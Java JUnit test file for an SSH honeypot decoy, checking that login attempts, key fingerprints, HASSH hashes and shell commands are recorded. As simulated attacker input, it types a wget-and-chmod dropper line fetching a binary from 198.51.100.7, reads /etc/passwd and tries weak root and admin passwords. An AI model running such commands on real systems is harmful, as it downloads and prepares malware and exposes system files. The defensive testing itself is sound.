package io.hsystem.sensor.service;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.hsystem.sensor.HoneypotServices;
import io.hsystem.sensor.RecordingSink;
import io.hsystem.sensor.TestSensors;
import io.hsystem.sensor.core.HoneypotEvent;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.io.PipedInputStream;
import java.io.PipedOutputStream;
import java.net.SocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.PublicKey;
import java.time.Duration;
import java.util.EnumSet;
import java.util.List;
import java.util.concurrent.atomic.AtomicReference;
import org.apache.sshd.client.SshClient;
import org.apache.sshd.client.channel.ChannelShell;
import org.apache.sshd.client.channel.ChannelSubsystem;
import org.apache.sshd.client.channel.ClientChannelEvent;
import org.apache.sshd.client.future.AuthFuture;
import org.apache.sshd.client.keyverifier.AcceptAllServerKeyVerifier;
import org.apache.sshd.client.session.ClientSession;
import org.apache.sshd.common.config.keys.KeyUtils;
import org.apache.sshd.common.util.net.SshdSocketAddress;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

@Timeout(90)
class SshDecoyTest {

  static final Duration T = Duration.ofSeconds(10);
  static final RecordingSink sink = new RecordingSink();
  static HoneypotServices services;
  static int port;
  static SshClient client;

  @BeforeAll
  static void start() {
    services =
        HoneypotServices.start(
            TestSensors.only("ssh").withLimits(l -> l.withPortScan(100, 60)), sink);
    port = services.boundPorts().get("ssh");
    client = SshClient.setUpDefaultClient();
    client.setServerKeyVerifier(AcceptAllServerKeyVerifier.INSTANCE);
    client.start();
  }

  @AfterAll
  static void stop() {
    client.stop();
    services.close();
  }

  @BeforeEach
  void clear() {
    sink.clear();
  }

  private ClientSession connect(String user) throws Exception {
    return client.connect(user, "127.0.0.1", port).verify(T).getSession();
  }

  @Test
  void passwordAttemptsAreRecordedWithTheClientVersionAndHassh() throws Exception {
    try (ClientSession session = connect("oracle")) {
      session.addPasswordIdentity("Welcome1");
      AuthFuture auth = session.auth();
      auth.await(T);
      assertThat(auth.isSuccess()).isFalse();
    }
    HoneypotEvent attempt = sink.await("login_attempt", "ssh", 1).get(0);
    assertThat(attempt.getString("username")).isEqualTo("oracle");
    assertThat(attempt.getString("password")).isEqualTo("Welcome1");
    assertThat(attempt.getString("ssh_client_version")).startsWith("SSH-2.0-APACHE-SSHD");
    String algorithms = attempt.getString("hassh_algorithms");
    assertThat(algorithms.split(";", -1)).hasSize(4);
    assertThat(algorithms).contains("curve25519-sha256").contains("aes128-ctr");
    assertThat(attempt.getString("hassh")).isEqualTo(SshDecoy.md5(algorithms)).hasSize(32);
    assertThat(sink.ofType("connection", "ssh")).hasSize(1);
    assertThat(sink.ofType("login_success")).isEmpty();
  }

  @Test
  void publicKeyAttemptsAreRecordedWithTypeAndFingerprint() throws Exception {
    KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
    generator.initialize(256);
    KeyPair keys = generator.generateKeyPair();
    try (ClientSession session = connect("deploy")) {
      session.addPublicKeyIdentity(keys);
      AuthFuture auth = session.auth();
      auth.await(T);
      assertThat(auth.isSuccess()).isFalse();
    }
    HoneypotEvent attempt = sink.await("login_attempt", "ssh", 1).get(0);
    assertThat(attempt.getString("username")).isEqualTo("deploy");
    assertThat(attempt.getString("key_type")).isEqualTo("ecdsa-sha2-nistp256");
    assertThat(attempt.getString("key_fingerprint"))
        .isEqualTo(KeyUtils.getFingerPrint(keys.getPublic()))
        .startsWith("SHA256:");
  }

  @Test
  void acceptedCredentialsOpenTheFakeShellForExec() throws Exception {
    try (ClientSession session = connect("root")) {
      session.addPasswordIdentity("123456");
      session.auth().verify(T);
      assertThat(session.executeRemoteCommand("whoami")).isEqualTo("root\n");
      assertThat(session.executeRemoteCommand("uname -a"))
          .startsWith("Linux ")
          .contains("x86_64 GNU/Linux");
      assertThat(session.executeRemoteCommand("cat /etc/passwd | head -n 1"))
          .isEqualTo("root:x:0:0:root:/root:/bin/bash\n");
      assertThatThrownBy(() -> session.executeRemoteCommand("nosuchtool -x"))
          .hasMessageContaining("Remote command failed (127)");
    }
    sink.await("login_success", "ssh", 1);
    assertThat(sink.await("command", "ssh", 4))
        .extracting(e -> e.getString("command_line"))
        .containsExactly("whoami", "uname -a", "cat /etc/passwd | head -n 1", "nosuchtool -x");
  }

  @Test
  void theInteractiveShellEchoesOnAPtyAndRecordsDownloads() throws Exception {
    try (ClientSession session = connect("admin")) {
      session.addPasswordIdentity("admin");
      session.auth().verify(T);
      try (ChannelShell shell = session.createShellChannel()) {
        PipedOutputStream typed = new PipedOutputStream();
        shell.setIn(new PipedInputStream(typed));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        shell.setOut(out);
        shell.setErr(out);
        shell.open().verify(T);
        awaitText(out, "admin@");
        write(typed, "pwd\r");
        awaitText(out, "/home/admin\r\n");
        write(typed, "cd /tmp; wget http://198.51.100.7/bins/x86 -O /tmp/x; chmod +x /tmp/x\r");
        awaitText(out, "unable to resolve host address '198.51.100.7'");
        write(typed, "exit\r");
        shell.waitFor(EnumSet.of(ClientChannelEvent.CLOSED), T);
        assertThat(out.toString(StandardCharsets.UTF_8)).contains("pwd\r\n/home/admin\r\n");
      }
    }
    HoneypotEvent download = sink.await("file_download", "ssh", 1).get(0);
    assertThat(download.getString("url")).isEqualTo("http://198.51.100.7/bins/x86");
    assertThat(download.getString("username")).isEqualTo("admin");
    assertThat(sink.await("command", "ssh", 3))
        .extracting(e -> e.getString("command_line"))
        .containsExactly(
            "pwd", "cd /tmp; wget http://198.51.100.7/bins/x86 -O /tmp/x; chmod +x /tmp/x", "exit");
  }

  @Test
  void sftpAndPortForwardingAreRefused() throws Exception {
    try (ClientSession session = connect("root")) {
      session.addPasswordIdentity("123456");
      session.auth().verify(T);
      try (ChannelSubsystem sftp = session.createSubsystemChannel("sftp")) {
        sftp.open().await(T);
        assertThat(sftp.waitFor(EnumSet.of(ClientChannelEvent.CLOSED), T))
            .contains(ClientChannelEvent.CLOSED);
      }
      assertThatThrownBy(
              () ->
                  session
                      .createDirectTcpipChannel(
                          new SshdSocketAddress("127.0.0.1", 1),
                          new SshdSocketAddress("127.0.0.1", 22))
                      .open()
                      .verify(T))
          .isNotNull();
    }
  }

  @Test
  void tooManyAuthAttemptsCloseTheConnection() throws Exception {
    try (ClientSession session = connect("root")) {
      for (int i = 0; i < 10; i++) {
        session.addPasswordIdentity("nope" + i);
      }
      AuthFuture auth = session.auth();
      auth.await(T);
      assertThat(auth.isSuccess()).isFalse();
    }
    // MaxAuthTries: the default limit is 6 attempts per connection
    assertThat(sink.await("login_attempt", "ssh", 1)).hasSizeLessThanOrEqualTo(6);
  }

  @Test
  void theHostKeyIsKeptInTheDataDirAcrossRestarts(@TempDir Path dataDir) throws Exception {
    String first = hostKeyFingerprint(dataDir);
    assertThat(Files.exists(dataDir.resolve("ssh_host_ecdsa_key"))).isTrue();
    assertThat(hostKeyFingerprint(dataDir)).isEqualTo(first);
  }

  private static String hostKeyFingerprint(Path dataDir) throws Exception {
    try (HoneypotServices own =
        HoneypotServices.start(TestSensors.only("ssh").withDataDir(dataDir), e -> {})) {
      SshClient c = SshClient.setUpDefaultClient();
      AtomicReference<PublicKey> seen = new AtomicReference<>();
      c.setServerKeyVerifier(
          (ClientSession s, SocketAddress remote, PublicKey key) -> {
            seen.set(key);
            return true;
          });
      c.start();
      try (ClientSession s =
          c.connect("x", "127.0.0.1", own.boundPorts().get("ssh")).verify(T).getSession()) {
        s.addPasswordIdentity("y");
        s.auth().await(T);
      } finally {
        c.stop();
      }
      return KeyUtils.getFingerPrint(seen.get());
    }
  }

  private static void write(OutputStream out, String text) throws Exception {
    out.write(text.getBytes(StandardCharsets.UTF_8));
    out.flush();
  }

  private static void awaitText(ByteArrayOutputStream out, String text) throws Exception {
    long end = System.currentTimeMillis() + 10_000;
    while (!out.toString(StandardCharsets.UTF_8).contains(text)) {
      if (System.currentTimeMillis() > end) {
        throw new AssertionError(
            "'" + text + "' not seen in: " + out.toString(StandardCharsets.UTF_8));
      }
      Thread.sleep(20);
    }
  }

  static List<String> lines(String s) {
    return List.of(s.split("\r?\n"));
  }
}
